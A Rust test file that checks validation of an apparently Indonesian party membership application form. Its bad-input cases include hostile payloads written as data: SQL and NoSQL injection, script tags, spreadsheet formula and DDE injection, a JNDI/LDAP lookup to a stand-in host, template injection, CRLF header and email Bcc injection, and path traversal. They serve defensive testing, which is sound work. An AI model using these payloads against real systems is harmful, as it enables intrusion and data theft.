//! Bad fields in the form to join.

use serde_json::{Value, json};
use uuid::Uuid;

use super::{echoes_nothing, is_absent};
use crate::harness::{Api, born_years_ago, person, text, with};

const NIK: &[(&str, &str)] = &[("nik", "nik.format")];
const NAME: &[(&str, &str)] = &[("name", "name.characters")];
const BIRTH: &[(&str, &str)] = &[("birth_date", "birth_date.format")];
const SEX: &[(&str, &str)] = &[("sex", "sex.unknown")];
const PHONE: &[(&str, &str)] = &[("phone", "phone.format")];
const VILLAGE: &[(&str, &str)] = &[("village", "village.unknown")];
const OCCUPATION: &[(&str, &str)] = &[("occupation", "occupation.unknown")];
const FORBIDDEN: &[(&str, &str)] = &[("occupation", "occupation.forbidden")];
const ADDRESS: &[(&str, &str)] = &[("address", "address.characters")];
const PLACE: &[(&str, &str)] = &[("birth_place", "birth_place.characters")];
const EMAIL: &[(&str, &str)] = &[("email", "email.format")];
const MEMBERSHIP: &[(&str, &str)] = &[("consent_membership", "consent_membership.required")];
const KPU: &[(&str, &str)] = &[("consent_kpu", "consent_kpu.required")];
const MESSAGES: &[(&str, &str)] = &[("consent_messages", "consent_messages.unknown")];
const REFERRER: &[(&str, &str)] = &[("referrer", "referrer.format")];

/// What stands in a good form's place, and the fields that are bad then.
fn cases() -> Vec<(Value, &'static [(&'static str, &'static str)])> {
    let minor = |change: Value| with(json!({"birth_date": born_years_ago(17)}), change);
    vec![
        (json!({"nik": null}), NIK),
        (json!({"nik": ""}), NIK),
        (json!({"nik": "327301410190000"}), NIK),
        (json!({"nik": "32730141019000011"}), NIK),
        (json!({"nik": "327301410190000a"}), NIK),
        (json!({"nik": "0000000000000000"}), NIK),
        (json!({"nik": 3_273_014_101_900_001_i64}), NIK),
        (json!({"nik": 3.273e15}), NIK),
        (json!({"nik": ["3273014101900001"]}), NIK),
        (json!({"nik": {"$ne": "harmless"}}), NIK),
        (json!({"nik": true}), NIK),
        (json!({"nik": "３２７３０１４１０１９００００１"}), NIK),
        (json!({"nik": "٣٢٧٣٠١٤١٠١٩٠٠٠٠١"}), NIK),
        (json!({"nik": "3273014101900001\u{0}"}), NIK),
        (json!({"nik": "3273014101900001' OR '1'='1"}), NIK),
        (json!({"nik": "9".repeat(10_000)}), NIK),
        (json!({"name": null}), &[("name", "name.required")]),
        (json!({"name": "   "}), &[("name", "name.required")]),
        (json!({"name": "a".repeat(101)}), &[("name", "name.length")]),
        (json!({"name": "é".repeat(20_000)}), &[("name", "name.length")]),
        (json!({"name": "Siti 2"}), NAME),
        (json!({"name": "<script>alert(1)</script>"}), NAME),
        (json!({"name": "'; DROP TABLE anggota; --"}), NAME),
        (json!({"name": "=HYPERLINK(\"http://a.example\")"}), NAME),
        (json!({"name": "+cmd|' /C calc'!A0"}), NAME),
        (json!({"name": "@SUM(A1:A9)"}), NAME),
        (json!({"name": "Siti\u{202e}hanimA"}), NAME),
        (json!({"name": "Siti\u{200b}2"}), NAME),
        (json!({"name": "S\u{456}ti Aminah"}), NAME),
        (json!({"name": "\u{391}li"}), NAME),
        (json!({"name": "李明"}), NAME),
        (json!({"name": "Siti\u{e000}Aminah"}), NAME),
        (json!({"name": "Siti\u{85}<b>"}), NAME),
        (json!({"name": "Siti\n<b>"}), NAME),
        (json!({"name": "Siti\r\nSet-Cookie: a=b"}), NAME),
        (json!({"name": "Siti\u{0}Aminah"}), NAME),
        (json!({"name": "Siti\u{1b}[31m"}), NAME),
        (json!({"name": "Siti \u{1f600}"}), NAME),
        (json!({"name": "\u{fffd}\u{fffd}"}), NAME),
        (json!({"name": "..."}), NAME),
        (json!({"name": "${jndi:ldap://a.example/x}"}), NAME),
        (json!({"name": "{{7*7}}"}), NAME),
        (json!({"name": ["Siti", "Aminah"]}), NAME),
        (json!({"name": {"first": "Siti"}}), NAME),
        (json!({"name": 12345}), NAME),
        (json!({"birth_date": null}), BIRTH),
        (json!({"birth_date": "01-01-1990"}), BIRTH),
        (json!({"birth_date": "1990-1-1"}), BIRTH),
        (json!({"birth_date": "1990-02-30"}), BIRTH),
        (json!({"birth_date": "1990-13-01"}), BIRTH),
        (json!({"birth_date": "1990-01-01T00:00:00Z"}), BIRTH),
        (json!({"birth_date": "+1990-01-1"}), BIRTH),
        (json!({"birth_date": 19_900_101}), BIRTH),
        (json!({"birth_date": ["1990-01-01"]}), BIRTH),
        (json!({"birth_date": "2999-01-01"}), &[("birth_date", "birth_date.future")]),
        (json!({"birth_date": "9999-12-31"}), &[("birth_date", "birth_date.future")]),
        (json!({"birth_date": "1890-01-01"}), &[("birth_date", "birth_date.implausible")]),
        (json!({"birth_date": "0000-01-01"}), &[("birth_date", "birth_date.implausible")]),
        (json!({"birth_date": born_years_ago(16), "marital_status": "unmarried"}), &[("birth_date", "age.minimum")]),
        (json!({"birth_date": born_years_ago(16)}), &[("marital_status", "marital_status.required")]),
        (json!({"birth_date": born_years_ago(0)}), &[("marital_status", "marital_status.required")]),
        (
            json!({"birth_date": born_years_ago(16), "marital_status": "engaged"}),
            &[("marital_status", "marital_status.unknown")],
        ),
        (minor(json!({})), &[("guardian_phone", "guardian.required")]),
        (minor(json!({"guardian_phone": "  "})), &[("guardian_phone", "guardian.required")]),
        (minor(json!({"guardian_phone": "021 5551234"})), &[("guardian_phone", "phone.format")]),
        (minor(json!({"guardian_phone": 81_230_000_000_i64})), &[("guardian_phone", "phone.format")]),
        (
            minor(json!({"guardian_phone": "0812 9999 9999", "guardian_name": "B\u{202e}udi"})),
            &[("guardian_name", "name.characters")],
        ),
        (json!({"sex": null}), SEX),
        (json!({"sex": "perempuan"}), SEX),
        (json!({"sex": "FEMALE"}), SEX),
        (json!({"sex": 1}), SEX),
        (json!({"sex": ["female"]}), SEX),
        (json!({"phone": null}), PHONE),
        (json!({"phone": "12345"}), PHONE),
        (json!({"phone": "021 5551234"}), PHONE),
        (json!({"phone": "+1 202 5550101"}), PHONE),
        (json!({"phone": "0812345678901234567890"}), PHONE),
        (json!({"phone": "0812 3456 789x"}), PHONE),
        (json!({"phone": "++6281234567890"}), PHONE),
        (json!({"phone": "081234567890\u{0}"}), PHONE),
        (json!({"phone": "081234567890,081234567891"}), PHONE),
        (json!({"phone": "０８１２３４５６７８９０"}), PHONE),
        (json!({"phone": 81_234_567_890_i64}), PHONE),
        (json!({"phone": ["081234567890"]}), PHONE),
        (json!({"village": null}), VILLAGE),
        (json!({"village": "32.73"}), VILLAGE),
        (json!({"village": "32.73.01.9999"}), VILLAGE),
        (json!({"village": "99.99.99.9999"}), VILLAGE),
        (json!({"village": "3273011001"}), VILLAGE),
        (json!({"village": "32.73.01.1001.1"}), VILLAGE),
        (json!({"village": "../../32.73.01.1001"}), VILLAGE),
        (json!({"village": "32.73.01.1001#x"}), VILLAGE),
        (json!({"village": 32.73}), VILLAGE),
        (json!({"village": {"code": "32.73.01.1001"}}), VILLAGE),
        (json!({"occupation": null}), OCCUPATION),
        (json!({"occupation": "astronaut"}), OCCUPATION),
        (json!({"occupation": ["teacher"]}), OCCUPATION),
        (json!({"occupation": "civil_servant"}), FORBIDDEN),
        (json!({"occupation": "military"}), FORBIDDEN),
        (json!({"occupation": "police"}), FORBIDDEN),
        (json!({"occupation": "village_head"}), FORBIDDEN),
        (json!({"occupation": "village_official"}), FORBIDDEN),
        (json!({"occupation": "village_council"}), FORBIDDEN),
        (json!({"occupation": "election_official"}), FORBIDDEN),
        (json!({"consent_membership": false}), MEMBERSHIP),
        (json!({"consent_membership": null}), MEMBERSHIP),
        (json!({"consent_membership": "maybe"}), MEMBERSHIP),
        (json!({"consent_membership": [true]}), MEMBERSHIP),
        (json!({"consent_kpu": false}), KPU),
        (json!({"consent_kpu": "no"}), KPU),
        (json!({"consent_kpu": {"yes": true}}), KPU),
        (json!({"consent_messages": "maybe"}), MESSAGES),
        (json!({"consent_messages": 1}), MESSAGES),
        (json!({"consent_messages": [true]}), MESSAGES),
        (json!({"address": "a".repeat(201)}), &[("address", "address.length")]),
        (json!({"address": "Jl. Merdeka\u{7} 1"}), ADDRESS),
        (json!({"address": "Jl.\u{202e}Merdeka"}), ADDRESS),
        (json!({"address": "=1+1 Jl. Merdeka"}), ADDRESS),
        (json!({"address": "-2+3 Jl. Merdeka"}), ADDRESS),
        (json!({"address": ["Jl. Merdeka 1"]}), ADDRESS),
        (json!({"birth_place": "a".repeat(101)}), &[("birth_place", "birth_place.length")]),
        (json!({"birth_place": "Bandung\u{1b}Jawa"}), PLACE),
        (json!({"birth_place": 12}), PLACE),
        (json!({"rt": "0001"}), &[("rt", "rt.format")]),
        (json!({"rt": "1a"}), &[("rt", "rt.format")]),
        (json!({"rt": 1}), &[("rt", "rt.format")]),
        (json!({"rw": "-1"}), &[("rw", "rw.format")]),
        (json!({"rw": "１"}), &[("rw", "rw.format")]),
        (json!({"email": "siti.contoh.id"}), EMAIL),
        (json!({"email": "siti@contoh"}), EMAIL),
        (json!({"email": "siti@@contoh.id"}), EMAIL),
        (json!({"email": "siti @contoh.id"}), EMAIL),
        (json!({"email": "siti@contoh.id\r\nBcc: x@y.id"}), EMAIL),
        (json!({"email": "=siti@contoh.id"}), EMAIL),
        (json!({"email": "\"<b>\"@contoh.id"}), EMAIL),
        (json!({"email": format!("{}@contoh.id", "a".repeat(300))}), EMAIL),
        (json!({"email": ["a@contoh.id"]}), EMAIL),
        (json!({"marital_status": "single"}), &[("marital_status", "marital_status.unknown")]),
        (json!({"marital_status": 0}), &[("marital_status", "marital_status.unknown")]),
        (json!({"referrer": "seseorang"}), REFERRER),
        (json!({"referrer": "32.73-000001-9"}), REFERRER),
        (json!({"referrer": "3273014101900001"}), REFERRER),
        (json!({"referrer": ["32.73-000001-1"]}), REFERRER),
    ]
}

#[tokio::test]
async fn a_bad_field_is_named_shown_to_nobody_and_nothing_is_stored() {
    let api = Api::shared();
    let cases = cases();
    assert!(cases.len() >= 60);
    for (change, bad) in cases {
        let id = Uuid::new_v4();
        let sent = with(person(), change);
        let answer = api.post("/applications").key(id).json(&sent).await;
        let what = sent.to_string().chars().take(400).collect::<String>();
        assert_eq!(answer.status, 422, "{what}: {answer:?}");
        let named = answer.problem(422, "fields.invalid");
        let expected: std::collections::BTreeSet<_> =
            bad.iter().map(|(field, code)| ((*field).to_owned(), (*code).to_owned())).collect();
        assert_eq!(named, expected, "{what}");
        echoes_nothing(&answer);
        is_absent(&api, id).await;
        if bad != PHONE {
            assert!(api.outbox(text(&sent, "phone")).await.is_empty(), "a message went out: {what}");
        }
    }
}

#[tokio::test]
async fn a_missing_field_is_named_like_an_empty_one() {
    let api = Api::shared();
    for (field, code) in [
        ("nik", "nik.format"),
        ("name", "name.required"),
        ("birth_date", "birth_date.format"),
        ("sex", "sex.unknown"),
        ("phone", "phone.format"),
        ("village", "village.unknown"),
        ("occupation", "occupation.unknown"),
        ("consent_membership", "consent_membership.required"),
        ("consent_kpu", "consent_kpu.required"),
    ] {
        let mut form = person();
        form.as_object_mut().unwrap().remove(field);
        api.post("/applications").json(&form).await.names(&[(field, code)]);
    }
}

#[tokio::test]
async fn all_bad_fields_are_named_at_once() {
    let api = Api::shared();
    let all = json!({
        "nik": "x", "name": "<b>", "birth_date": "x", "sex": "x", "phone": "x", "village": "x", "occupation": "x",
        "consent_membership": "x", "consent_kpu": "x", "birth_place": "\u{0}x", "marital_status": "x",
        "address": "=x", "rt": "x", "rw": "x", "email": "x", "referrer": "x", "guardian_name": "<b>",
    });
    let id = Uuid::new_v4();
    api.post("/applications").key(id).json(&all).await.names(&[
        ("nik", "nik.format"),
        ("name", "name.characters"),
        ("birth_date", "birth_date.format"),
        ("sex", "sex.unknown"),
        ("phone", "phone.format"),
        ("village", "village.unknown"),
        ("occupation", "occupation.unknown"),
        ("consent_membership", "consent_membership.required"),
        ("consent_kpu", "consent_kpu.required"),
        ("birth_place", "birth_place.characters"),
        ("marital_status", "marital_status.unknown"),
        ("address", "address.characters"),
        ("rt", "rt.format"),
        ("rw", "rw.format"),
        ("email", "email.format"),
        ("referrer", "referrer.format"),
    ]);
    is_absent(&api, id).await;
    let minor = json!({"birth_date": born_years_ago(17), "guardian_name": "<b>", "guardian_phone": "x"});
    let answer = api.post("/applications").json(&with(person(), minor)).await;
    answer.names(&[("guardian_name", "name.characters"), ("guardian_phone", "phone.format")]);
}

#[tokio::test]
async fn errors_speak_indonesian_and_on_request_english() {
    let api = Api::shared();
    let message = |language: Option<&'static str>| {
        let mut call = api.post("/applications").json(&with(person(), json!({"nik": "1"})));
        if let Some(language) = language {
            call = call.header("accept-language", language);
        }
        async move {
            let problem = call.await.is(422).json();
            (text(&problem, "title").to_owned(), text(&problem["errors"][0], "message").to_owned())
        }
    };
    let indonesian = message(None).await;
    assert!(indonesian.1.contains("angka"), "{indonesian:?}");
    assert_eq!(message(Some("id, en;q=0.5")).await, indonesian);
    assert_eq!(message(Some("*;;=,")).await, indonesian);
    for english in ["en", "en-GB, id;q=0.8", "EN-us"] {
        let english = message(Some(english)).await;
        assert!(english.1.contains("digits"), "{english:?}");
    }
}

#[tokio::test]
async fn names_and_addresses_as_people_have_them_are_taken() {
    let api = Api::shared();
    for name in
        ["Suharto", "Ma'ruf Al-Habsyi", "H. Abd. Rahman, S.H.", "Nurul ’Aini", "I Gusti Ngurah Rai", "Cafe\u{301}"]
    {
        api.post("/applications").json(&with(person(), json!({"name": name}))).await.is(202);
    }
    for change in [
        json!({"address": "Jl. Asia-Afrika No. 8/10 (belakang masjid) & \"Blok C\""}),
        json!({"name": "Siti\u{200b} Aminah", "address": "Jl.\tMerdeka\u{2028}1", "birth_place": "Ban\u{ad}dung"}),
        json!({"name": "Siti\tAminah", "email": "siti\u{200b}@contoh.id"}),
        json!({"name": "Siti\u{2003}Aminah\u{200f}", "address": "Jl. Merdeka\r\nNo. 1"}),
        json!({"name": "a".repeat(100), "address": "é".repeat(200)}),
        json!({"guardian_name": "", "referrer": "", "email": "", "rt": ""}),
        json!({"consent_membership": "on", "consent_kpu": "true"}),
        json!({"nik": format!(" {} ", text(&person(), "nik"))}),
    ] {
        api.post("/applications").json(&with(person(), change)).await.is(202);
    }
}
